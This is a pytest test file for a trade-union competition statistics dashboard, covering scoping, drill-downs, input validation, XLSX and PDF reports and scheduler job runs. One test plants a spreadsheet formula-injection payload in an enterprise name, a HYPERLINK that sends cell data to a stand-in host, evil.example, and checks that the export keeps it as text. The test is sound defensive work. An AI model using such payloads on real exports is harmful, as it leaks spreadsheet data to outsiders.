"""The statistics dashboard, its chart data, downloads and scoping, on the small known year (tests/stats_data.py)."""

from __future__ import annotations

import json
import re
import subprocess
from io import BytesIO

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select

from competitions.db import utcnow
from competitions.extensions import db
from competitions.scheduler import JobRun, job_named, run_job, run_requested
from competitions.stats.models import StatCompilation
from competitions.stats.services import compile_year
from competitions.timezone import local_zone
from tests import factories as f
from tests import stats_data as known


@pytest.fixture
def year(app):
    data = known.known_year()
    f.user("cityorg", "organizer", org=data["city"].organization)
    f.user("eastorg", "organizer", org=data["east"])
    f.user("plantorg", "organizer", org=data["plant"])
    f.user("admin", "admin")
    f.user("worker", "competitor", org=data["plant"])
    for y in (2025, 2026):
        compile_year(y)
    db.session.commit()
    return data


def _json(client, **params):
    response = client.get("/api/v1/stats/figures", query_string=params)
    assert response.status_code == 200, response.data
    return response.get_json()


def _headline(document) -> dict:
    return {item["metric"]: item["value"] for item in document["headline"]}


def _pairs(chart) -> dict:
    return dict(zip(chart["categories"], chart["values"], strict=True))


def _chart(document, name) -> dict:
    return next(chart for chart in document["charts"] if chart["name"] == name)


def test_city_dashboard_shows_the_hand_counted_figures_and_the_change_from_last_year(year, client, auth):
    auth.login("cityorg")
    page = client.get("/stats/?year=2026")
    assert page.status_code == 200
    html = page.get_data(as_text=True)
    assert "测试市总工会" in html and 'data-chart="region"' in html
    document = _json(client, year=2026)
    assert _headline(document) == dict(zip(("competitions", "events", "participations", "workers", "enterprises",
                                            "finalists", "awards", "promotions"), (*known.CITY_2026, 1),
                                           strict=True))
    participations = next(i for i in document["headline"] if i["metric"] == "participations")
    assert (participations["previous"], participations["change_percent"]) == (2, "+300.0")
    region = _chart(document, "region")
    assert _pairs(region) == {"东区总工会": 6, "西区总工会": 2, "直属测试市总工会": 0}  # the city's own contest
    assert region["links"][0].endswith(f"scope={year['east'].id}")
    trade = _chart(document, "trade")
    assert _pairs(trade) == {"电工": 5, "焊工": 2, "数控车工": 1}
    assert "drill=trade%3AELEC" in trade["links"][0] or "drill=trade:ELEC" in trade["links"][0]
    years = _chart(document, "years")
    assert years["categories"] == ["2025", "2026"] and years["values"] == [2, 8]
    # The page embeds the same document the JSON endpoint serves, for the static script to draw.
    embedded = re.search(r'<script type="application/json" id="stats-data">(.*?)</script>', html, re.S).group(1)
    assert json.loads(embedded)["headline"] == document["headline"]
    assert "<script>" not in html  # no inline script (Content-Security-Policy)


def test_district_union_sees_its_own_subtree_only(year, client, auth):
    auth.login("eastorg")
    document = _json(client, year=2026)
    assert document["scope"]["name"] == "东区总工会"
    assert tuple(_headline(document)[m] for m in ("competitions", "events", "participations", "workers",
                                                  "enterprises", "finalists", "awards")) == known.EAST_2026
    assert _chart(document, "region")["categories"] == ["东区机床厂工会", "直属东区总工会"]  # its own contest
    for scope in (year["west"].id, year["city"].organization_id, year["works"].id):
        assert client.get("/api/v1/stats/figures", query_string={"scope": scope}).status_code == 404
        assert client.get("/stats/", query_string={"scope": scope}).status_code == 404
        assert client.get("/stats/report.xlsx", query_string={"scope": scope}).status_code == 404
    assert client.get("/stats/", query_string={"scope": year["plant"].id}).status_code == 200
    html = client.get("/stats/?year=2026").get_data(as_text=True)
    assert "测试市总工会" not in html  # not even in the breadcrumb


def test_enterprise_union_sees_itself(year, client, auth):
    auth.login("plantorg")
    document = _json(client, year=2026)
    assert document["scope"]["name"] == "东区机床厂工会"
    assert _headline(document)["participations"] == known.PLANT_2026[2]
    assert "region" not in {chart["name"] for chart in document["charts"]}
    assert client.get("/api/v1/stats/figures", query_string={"scope": year["east"].id}).status_code == 404


def test_drill_down_by_trade_across_the_districts(year, client, auth):
    auth.login("cityorg")
    document = _json(client, year=2026, drill="trade:ELEC")
    drill = document["drill"]
    assert _pairs(drill) == {"东区总工会": 4, "西区总工会": 1}
    page = client.get("/stats/?year=2026&drill=trade:ELEC").get_data(as_text=True)
    assert 'id="drill"' in page and "电工" in page
    # Review M3: every way into a drill-down lands on it (#drill), and a district in it keeps the trade.
    trade_chart = next(chart for chart in document["charts"] if chart["name"] == "trade")
    assert all(link.endswith("#drill") for link in trade_chart["links"])
    east = year["east"].id
    assert f"/stats/?year=2026&scope={east}&drill=trade%3AELEC#drill" in drill["links"]
    assert f'href="/stats/?year=2026&amp;scope={east}&amp;drill=trade%3AELEC#drill"' in page
    # From a district, the same drill lists its enterprises.
    document = _json(client, year=2026, scope=year["east"].id, drill="industry:通用设备制造业")
    assert _pairs(document["drill"]) == {"东区机床厂工会": 6}
    response = client.get("/api/v1/stats/figures", query_string={"year": 2026, "drill": "gender:male"})
    assert response.status_code == 422 and response.get_json()["field"] == "drill"  # not a drill-down dimension


BAD_PARAMETERS = [("year=abc", "year"), ("year=1999", "year"), ("year=" + "9" * 400, "year"), ("year=-1", "year"),
                  ("year=2026.5", "year"), ("scope=abc", "scope"), ("scope=-1", "scope"), ("drill=trade", "drill"),
                  ("drill=nonsense:1", "drill"), ("drill=trade:" + "E" * 101, "drill"),
                  ("drill=trade:EL%1bEC", "drill")]


@pytest.mark.parametrize("query, field", BAD_PARAMETERS)
def test_a_parameter_that_makes_no_sense_is_named_never_answered_with_other_figures(year, client, auth, query,
                                                                                      field):
    """Review M4: ?year=1999 was answered with 2026's figures under a 200, ?scope=abc with the caller's union."""
    auth.login("cityorg")
    response = client.get(f"/api/v1/stats/figures?{query}", headers={"Accept-Language": "en"})
    assert response.status_code == 422
    body = response.get_json()
    assert body["field"] == field and [p["field"] for p in body["problems"]] == [field]
    # The page says what was wrong and shows the dashboard without the bad parameter (the URL says what is shown).
    response = client.get(f"/stats/?{query}", headers={"Accept-Language": "en"})
    assert response.status_code == 302
    shown = response.headers["Location"].split("?", 1)[-1]
    assert query not in shown and (field == "year" or f"{field}=" not in shown)  # the year shown is the default
    page = client.get(response.headers["Location"], headers={"Accept-Language": "en"}).get_data(as_text=True)
    assert {"year": "The year must be a year from 2000 to 2100", "scope": "The union (scope) must be given",
            "drill": "A drill-down is written trade:"}[field] in page.replace("&lt;", "<").replace("&gt;", ">")
    # Downloads are not served for a bad query either.
    assert client.get(f"/stats/report.xlsx?{query}").status_code == 302


def test_every_bad_parameter_is_named_at_once_and_good_ones_are_kept(year, client, auth):
    auth.login("cityorg")
    body = client.get("/api/v1/stats/figures?year=1999&scope=abc&drill=x").get_json()
    assert [p["field"] for p in body["problems"]] == ["year", "scope", "drill"]
    response = client.get(f"/stats/?year=2025&scope={year['east'].id}&drill=x")
    assert response.status_code == 302
    assert "year=2025" in response.headers["Location"] and f"scope={year['east'].id}" in response.headers["Location"]
    assert client.get("/stats/?scope=999999").status_code == 404  # a number out of reach: not found, as before


def test_chart_data_as_xlsx(year, client, auth):
    auth.login("cityorg")
    response = client.get("/stats/chart.xlsx?year=2026&chart=trade")
    assert response.status_code == 200
    assert "statistics-2026-" in response.headers["Content-Disposition"]
    sheet = load_workbook(BytesIO(response.data)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][0] == "按工种" and rows[2][1:4] == ("举办竞赛", "竞赛项目", "参赛人次")
    by_label = {row[0]: row for row in rows[3:]}
    assert by_label["电工"][1:4] == (2, 2, 5)
    assert client.get("/stats/chart.xlsx?year=2026&chart=nothing").status_code == 404
    drilled = load_workbook(BytesIO(client.get("/stats/chart.xlsx?year=2026&drill=trade:ELEC").data)).active
    assert [row[0] for row in drilled.iter_rows(min_row=4, values_only=True)] == ["东区总工会", "西区总工会"]


def test_names_that_look_like_formulas_stay_text(year, client, auth):
    year["plant"].name = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    db.session.commit()
    auth.login("cityorg")
    book = load_workbook(BytesIO(client.get("/stats/report.xlsx?year=2026").data))
    sheet = next(ws for ws in book.worksheets if "nterprise" in ws.title or "企业" in ws.title)
    cells = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert cells and all(c.data_type == "s" for c in cells)


def test_annual_report_xlsx_has_a_sheet_per_breakdown(year, client, auth):
    auth.login("cityorg")
    response = client.get("/stats/report.xlsx?year=2026", headers={"Accept-Language": "en"})
    book = load_workbook(BytesIO(response.data))
    assert len(book.worksheets) == 1 + 10 + 4  # + labour and innovation by region and by industry
    summary = {row[0]: row[1:] for row in book.worksheets[0].iter_rows(min_row=4, values_only=True) if row[0]}
    assert summary["Participations (person-times)"] == (8, 2, "+300.0%")
    assert summary["Workers (persons)"][:2] == (5, 2)


def _pdf_text(data: bytes, tmp_path) -> str:
    path = tmp_path / "report.pdf"
    path.write_bytes(data)
    return subprocess.run(["pdftotext", "-layout", str(path), "-"], capture_output=True, text=True,
                          check=True).stdout


@pytest.mark.parametrize("language, words", [
    ("zh", ("劳动和技能竞赛年度统计", "参赛人次", "电工", "东区总工会", "第 1 页，共")),
    ("en", ("Annual statistics", "Participations (person-times)", "电工", "东区总工会", "Page 1 of")),
])
def test_annual_report_pdf_has_charts_and_tables(year, client, auth, tmp_path, language, words):
    auth.login("cityorg")
    client.post("/lang", data={"lang": language})
    response = client.get("/stats/report.pdf?year=2026")
    assert response.status_code == 200 and response.data.startswith(b"%PDF")
    text = _pdf_text(response.data, tmp_path)
    for word in words:
        assert word in text, word
    if language == "en":  # review L5: table headers wrapped mid-word ("Participatio / ns", "Workers (person / s)")
        for broken in ("Participatio\n", "(person\n", "Competitio\n", "Promotion\n"):
            assert broken not in subprocess.run(["pdftotext", "-raw", str(tmp_path / "report.pdf"), "-"],
                                                capture_output=True, text=True, check=True).stdout, broken
    png = tmp_path / f"stats-report-{language}"
    subprocess.run(["pdftoppm", "-png", "-r", "60", "-f", "1", "-l", "2", str(tmp_path / "report.pdf"), str(png)],
                   check=True)
    assert list(tmp_path.glob(f"stats-report-{language}*.png"))


def _compiled_at(year: int):
    db.session.expire_all()
    return db.session.execute(select(StatCompilation.compiled_at).where(StatCompilation.year == year)).scalar()


def test_admin_sees_job_runs_and_run_now_queues_for_the_scheduler(year, client, auth):
    auth.login("admin")
    page = client.get("/stats/jobs").get_data(as_text=True)
    for name in ("close_due_registrations", "finalize_due_results", "refresh_statistics", "compile_previous_year"):
        assert name in page
    this_year = utcnow().astimezone(local_zone()).year
    compiled = _compiled_at(this_year)
    response = client.post("/stats/jobs/refresh_statistics/run")
    assert response.status_code == 302
    # Nothing ran in the web request: the run is queued and this year's figures were not counted again.
    run = db.session.execute(select(JobRun).where(JobRun.job == "refresh_statistics")).scalar_one()
    assert (run.status, run.trigger) == ("queued", "manual") and run.requested_by_id is not None
    assert _compiled_at(this_year) == compiled
    page = client.get("/stats/jobs").get_data(as_text=True)
    assert f'data-run="{run.id}"' in page and "run-queued" in page and 'http-equiv="refresh"' in page
    # Asking again while it waits queues nothing more.
    client.post("/stats/jobs/refresh_statistics/run")
    assert db.session.execute(select(func.count(JobRun.id))).scalar() == 1
    # The scheduler process picks it up.
    assert [name for name, _result in run_requested()] == ["refresh_statistics"]
    db.session.expire_all()
    run = db.session.get(JobRun, run.id)
    assert run.status == "succeeded" and run.result["year"] == this_year and run.finished_at is not None
    assert _compiled_at(this_year) != compiled
    page = client.get("/stats/jobs").get_data(as_text=True)
    assert "run-succeeded" in page and 'http-equiv="refresh"' not in page
    assert run.period_key not in page
    # Review L3: the result is said in words, not raw JSON.
    assert '{"' not in page and f"year {this_year} · figures" in client.get(
        "/stats/jobs", headers={"Accept-Language": "en"}).get_data(as_text=True)
    assert client.post("/stats/jobs/no_such_job/run").status_code == 404


def test_a_job_period_that_is_a_moment_is_shown_in_local_time(year, client, auth):
    """Review L3: "period 15:47, started 23:47" read as a run 8 hours late (the key is a UTC minute)."""
    from competitions.stats.views import run_period, run_result

    with client.application.test_request_context(headers={"Accept-Language": "en"}):
        assert run_period("2026-11-29T15:47") == "2026-11-29 23:47"  # Beijing time, as the Started column
        assert run_period("2026-07-02") == "2026-07-02" and run_period("2026") == "2026"
        summary = run_result({"made": [], "failed": [1], "purged": 0})
        assert summary == "batches made 0 · failed 1 · stale files deleted 0"
        assert run_result({}) == "—"


def test_admin_cancels_a_queued_run(year, client, auth):
    auth.login("admin")
    client.post("/stats/jobs/compile_previous_year/run")
    run = db.session.execute(select(JobRun)).scalar_one()
    response = client.post(f"/stats/jobs/runs/{run.id}/cancel", follow_redirects=True)
    assert "已取消排队中的运行" in response.get_data(as_text=True)  # the page is in Chinese by default
    db.session.expire_all()
    assert db.session.get(JobRun, run.id).status == "cancelled"
    assert run_requested() == []  # the scheduler finds nothing to run
    # A cancelled (or finished) run cannot be cancelled again; an unknown one is 404.
    response = client.post(f"/stats/jobs/runs/{run.id}/cancel", follow_redirects=True)
    assert "无法取消" in response.get_data(as_text=True)
    assert client.post("/stats/jobs/runs/99999/cancel").status_code == 404


def test_competitors_and_anonymous_are_kept_out(year, client, auth):
    assert client.get("/api/v1/stats/figures").status_code == 401
    auth.login("worker")
    assert client.get("/stats/").status_code == 403
    assert client.get("/api/v1/stats/figures").status_code == 403


def test_jobs_page_says_when_each_job_runs_in_words_and_whether_the_scheduler_runs(year, client, auth):
    """An administrator reads "every day at 02:30", not a cron expression, and is told when no scheduler runs."""
    auth.login("admin")
    page = client.get("/stats/jobs").get_data(as_text=True)
    assert "每分钟" in page and "每 5 分钟" in page and "每天 02:30" in page and "每年 1月1日 00:30" in page
    assert "cron[" not in page
    assert 'id="scheduler-down"' in page and "没有调度进程在运行" in page
    # The scheduler process runs its every-minute job: the page says so.
    run_job(job_named("close_due_registrations"), now=utcnow())
    db.session.commit()
    page = client.get("/stats/jobs").get_data(as_text=True)
    assert 'id="scheduler-down"' not in page and 'id="scheduler-up"' in page
    client.post("/stats/jobs/refresh_statistics/run")
    flashed = client.get("/stats/jobs").get_data(as_text=True)
    assert "已排队 —— 重新统计本年度数据（每晚）。" in flashed


def test_region_lines_add_up_to_the_headline(year, client, auth):
    """Review M1: what is filed on the union itself (the city federation's own contest) appeared in no region line,
    so the lines summed to less than the headline."""
    from competitions.stats.figures import year_report

    auth.login("cityorg")
    document = _json(client, year=2026)
    region = _chart(document, "region")
    assert region["categories"][-1] == "直属测试市总工会"
    assert region["links"][-1] is None  # nothing to drill into: it is the scope itself
    report = year_report(2026, year["city"].organization)
    lines = report.breakdown("region").rows
    for metric in ("competitions", "events", "participations", "workers", "enterprises", "finalists", "awards"):
        assert sum(row.figures[metric] or 0 for row in lines) == report.headline.figures[metric], metric
    # The city's own contest is the one competition filed directly under it.
    assert lines[-1].figures["competitions"] == 1 and lines[-1].figures["participations"] == 0


@pytest.mark.parametrize("asked, hint", [
    (2031, "Nothing to count yet: the figures of 2031 are those of competitions that end in 2031."),
    (2024, "2024 has not been compiled: an administrator can compile it"),
])
def test_a_year_never_compiled_shows_no_figures_and_the_right_hint(year, client, auth, asked, hint):
    """Review L7: a year never compiled showed 0 participations (read: nobody took part) and promised a nightly
    count that would never come."""
    auth.login("cityorg")
    page = client.get(f"/stats/?year={asked}", headers={"Accept-Language": "en"}).get_data(as_text=True)
    assert hint in page
    document = _json(client, year=asked)
    assert {item["value"] for item in document["headline"]} == {None}  # "—", not 0
    assert 'class="big">0<' not in page
